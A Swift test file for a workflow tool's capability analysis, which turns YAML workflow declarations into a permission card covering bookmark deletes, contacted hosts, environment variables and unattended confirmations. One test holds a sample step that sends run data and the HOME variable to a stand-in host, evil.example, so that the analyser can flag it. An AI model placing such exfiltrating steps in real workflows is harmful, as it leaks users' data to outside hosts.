import FlowCron
import FlowPresentation
import Foundation
import Testing

/// What a workflow may do, from declarations alone: app data, hosts, environment, nested workflows,
/// the schedule, and what acts without asking.
struct CapabilityTests {
  func capabilities(_ yaml: String, others: [String: String] = [:]) throws -> Capabilities {
    let (workflow, loader) = try checked(yaml, others: others)
    return CapabilityAnalysis(registry: registry, loader: loader).analyze(workflow)
  }

  @Test func appAccessIsCountedFromDeclaredSideEffects() throws {
    let found = try capabilities(
      """
      flow: 1
      steps:
        - get-bookmarks
        - for-each: ${previous}
          do:
            - update-bookmark:
                bookmark: ${item}
                favorite: true
            - delete-bookmark: ${item}
        - raindrop.get-collections
      """)
    #expect(found.apps.count == 1)
    let raindrop = try #require(found.apps.first)
    #expect(raindrop.app == "Raindrop.io")
    let counts: [Int] = [raindrop.reads, raindrop.writes, raindrop.deletes]
    #expect(counts == [2, 1, 1])
    #expect(raindrop.steps.map(\.step.position) == ["1", "2.1", "2.2", "3"])
    #expect(found.hosts.map(\.host) == ["api.raindrop.io"])
    #expect(found.hosts.first?.steps.count == 4)
    #expect(found.changesAnything)
    #expect(!found.deletesWithoutAsking)
  }

  /// `on-failure:` steps may run, so what they may do is on the card, named as on-failure steps; a
  /// nested workflow's `on-failure:` never runs there and is left out.
  @Test func onFailureStepsAreOnTheCard() throws {
    let (workflow, loader) = try checked(
      """
      flow: 1
      steps:
        - get-bookmarks
        - run-workflow: child.yml
      on-failure:
        - get-url: https://status.example.com/ping
        - delete-bookmark: ${run.error.message}
        - get-url: ${run.error.file}
      """,
      others: ["child.yml": "flow: 1\nsteps:\n  - show: hi\non-failure:\n  - open-url: https://child.example.com\n"])
    let found = CapabilityAnalysis(registry: registry, loader: loader).analyze(workflow)
    #expect(found.hosts.map(\.host) == ["api.raindrop.io", "status.example.com"])
    #expect(found.hosts.last?.steps.map(\.position) == ["on-failure.1"])
    #expect(found.apps.first?.deletes == 1)
    #expect(found.anyHost.map(\.position) == ["on-failure.3"])
    let lines = CapabilityLines.lines(found).map(\.text.description)
    #expect(lines.contains { $0.contains("get-url (on-failure step 3)") }, "\(lines)")
    #expect(!lines.joined().contains("child.example.com"))
    let drawn = OutlineBuilder(registry: registry, loader: loader)
      .outline(of: workflow, provenance: Provenance(), now: Date(timeIntervalSince1970: 1_795_000_000))
    #expect(drawn.onFailure.map(\.position) == ["on-failure.1", "on-failure.2", "on-failure.3"])
    #expect(drawn.summary.actionCount == 5)
    let card = PermissionCard().render(drawn, source: "test.yml")
    #expect(card.contains("if the run fails: get-url ×2, raindrop.delete-bookmark"), "\(card)")
  }

  @Test func hostsComeFromLiteralURLsAndComputedOnesMeanAnyHost() throws {
    let found = try capabilities(
      """
      flow: 1
      input:
        page: url
        verb: text
      steps:
        - get-url: https://example.com/feed
        - get-url:
            url: https://api.example.org/items
            method: post
        - get-url: ${input.page}
        - get-url:
            url: https://example.com/x
            method: ${input.verb}
        - open-url: https://swift.org
      """)
    #expect(found.hosts.map(\.host) == ["example.com", "api.example.org", "swift.org"])
    #expect(found.anyHost.map(\.position) == ["3"])
    // A POST changes something; a method computed at run time could be any, so it counts as the worst.
    #expect(found.otherChanges.map(\.step.position) == ["2", "4", "5"])
    #expect(found.otherChanges.map(\.effect) == ["changes", "destructive", "changes"])
    #expect(found.apps.isEmpty)
  }

  /// The tree of run-workflow is walked with the check's loader; a workflow that runs its parent back
  /// (only while something ends it) is looked at once.
  @Test func environmentNestedWorkflowsAndCycles() throws {
    let found = try capabilities(
      """
      flow: 1
      env: [HOME]
      input:
        which: text
      steps:
        - run-workflow: child.yml
        - run-workflow: ${input.which}
      """,
      others: [
        "child.yml": """
        flow: 1
        env: [API_KEY]
        steps:
          - delete-bookmark: 1
          - run-workflow: test.yml
            when: ${previous} is not empty
        """
      ])
    #expect(found.environment == ["HOME", "API_KEY"])
    #expect(found.workflows.map(\.reference) == ["child.yml", "test.yml", "${input.which}"])
    #expect(found.workflows[0].name == "child")
    #expect(found.workflows[0].file == "child.yml")
    #expect(found.workflows[2].problem == "chosen at run time: it could be any workflow")
    // The nested workflow's delete counts, at its own place, and the cycle adds nothing twice.
    #expect(found.apps.first?.deletes == 1)
    #expect(found.apps.first?.steps.map(\.step) == [.init(file: "child.yml", position: "1", action: "delete-bookmark")])
  }

  /// Without a loader (a file looked at on its own), nested workflows are listed and not guessed at.
  @Test func nestedWorkflowsUnexaminedWithoutALoader() throws {
    let found = CapabilityAnalysis(registry: registry, loader: nil).analyze(
      try checked("flow: 1\nsteps:\n  - run-workflow: child.yml\n", others: ["child.yml": "flow: 1\nsteps: []\n"])
        .workflow)
    #expect(found.workflows.map(\.problem) == ["not examined"])
  }

  @Test func confirmationsAutoWithDeletingStepsActsWithoutAsking() throws {
    let found = try capabilities(
      """
      flow: 1
      confirmations: auto
      steps:
        - get-bookmarks
        - for-each: ${previous}
          confirm: Delete them all?
          do:
            - delete-bookmark: ${item}
        - show: done
          confirm: true
      """)
    #expect(found.confirmations == "auto")
    // The block's question answers the deletes inside it: one confirmation, not asked by anybody.
    #expect(found.unattended.map(\.step.position) == ["2", "3"])
    #expect(found.unattended.map(\.deletes) == [true, false])
    #expect(found.unattended[0].question == "Delete them all?")
    #expect(found.deletesWithoutAsking)
    let asked = try capabilities(
      "flow: 1\nsteps:\n  - delete-bookmark: 1\n")
    #expect(asked.unattended.isEmpty)
  }

  /// Every cron expression of the schedule, in FlowScheduler's words, with the zone it runs in.
  @Test func scheduleIsSaidInWords() throws {
    let found = try capabilities(
      """
      flow: 1
      timezone: Europe/Berlin
      schedule:
        - 0 9 * * MON-FRI
        - cron: "@daily"
          timezone: Asia/Tokyo
      steps:
        - show: hi
      """)
    #expect(
      found.schedule == [
        .init(cron: "0 9 * * MON-FRI", timezone: "Europe/Berlin", words: "at 09:00, Monday through Friday"),
        .init(cron: "@daily", timezone: "Asia/Tokyo", words: "at 00:00"),
      ])
    #expect(try capabilities("flow: 1\nsteps:\n  - show: hi\n").schedule.isEmpty)
  }

  @Test func linesSayItAll() throws {
    let found = try capabilities(
      """
      flow: 1
      confirmations: auto
      env: [HOME]
      steps:
        - get-bookmarks
        - delete-bookmark: ${previous.first}
        - get-url: ${env.HOME}
      """)
    let lines = CapabilityLines.lines(found)
    let texts: [String] = lines.map(\.text.description)
    #expect(
      texts == [
        "reads Raindrop.io bookmarks (1 step)",
        "deletes Raindrop.io bookmarks (1 step)",
        "contacts api.raindrop.io",
        "may contact any host, and send it anything: the URL is computed at run time in get-url (step 3)",
        "reads environment variables HOME",
        "delete-bookmark (step 2) is confirmed without asking, and deletes (confirmations: auto)",
      ])
    let tones: [CapabilityLines.Tone] = [.plain, .deletes, .plain, .alarm, .plain, .alarm]
    #expect(lines.map(\.tone) == tones)
    #expect(
      CapabilityLines.lines(try capabilities("flow: 1\nsteps:\n  - show: hi\n")).map(\.text.description) == [
        "nothing outside the workflow: no app data, no host, no environment"
      ])
  }

  /// Issue 16: moving to Trash is deleting, whether the step names Trash or computes where to move.
  @Test func aMoveToTrashDeletes() throws {
    let found = try capabilities(
      """
      flow: 1
      confirmations: auto
      steps:
        - get-bookmarks:
            max-results: all
          as: everything
        - update-bookmarks:
            bookmarks: ${everything}
            move-to: Trash
        - update-bookmarks:
            bookmarks: ${everything}
            move-to: ${everything.first.title}
        - update-bookmarks:
            bookmarks: ${everything}
            move-to: Unsorted
            add-tags: [kept]
      """)
    let raindrop = try #require(found.apps.first)
    #expect(raindrop.steps.map(\.effect) == ["read-only", "destructive", "destructive", "changes"])
    // Each asks when run; confirmations: auto answers them, which the card shows in red.
    #expect(found.unattended.map(\.step.position) == ["2", "3"])
    #expect(found.deletesWithoutAsking)
    let lines = CapabilityLines.lines(found)
    #expect(lines.contains { $0.text.description == "deletes Raindrop.io bookmarks (2 steps)" && $0.tone == .deletes })
  }

  /// Issue 16: opening a URL contacts its host; the host of a URL with computed parts gets what they
  /// hold; a computed host is any host; and the URL is a process argument other users can read.
  @Test func openURLHostsAndTheDataTheyGet() throws {
    let found = try capabilities(
      """
      flow: 1
      env: [HOME]
      steps:
        - open-url: https://swift.org/blog
        - open-url: https://evil.example/collect?d=${previous}&h=${env.HOME}
        - open-url: https://evil.example${previous}
        - open-url: ${previous}
        - open-url: mailto:ada@example.com
      """)
    // A mailto: URL names no host, but where the message goes is on the card all the same (issue 28).
    #expect(found.hosts.map(\.host) == ["swift.org", "evil.example", "mailto:ada@example.com"])
    #expect(found.dataSent.map(\.host) == ["evil.example"])
    #expect(found.dataSent.first?.steps.map(\.position) == ["2"])
    // `https://evil.example${previous}` could be `https://evil.example.other.net`.
    #expect(found.anyHost.map(\.position) == ["3", "4"])
    #expect(found.exposedArguments.map(\.position) == ["2", "3", "4"])
    let lines = CapabilityLines.lines(found).filter { $0.tone == .alarm }.map(\.text.description)
    #expect(
      lines == [
        "sends what the run computes to evil.example, in the URL of open-url (step 2)",
        "may contact any host, and send it anything: the URL is computed at run time in open-url (step 3), "
          + "open-url (step 4)",
        "shows what the run computes to every user of this machine, as a command-line argument of another "
          + "program: open-url (step 2), open-url (step 3), open-url (step 4)",
      ])
  }
}
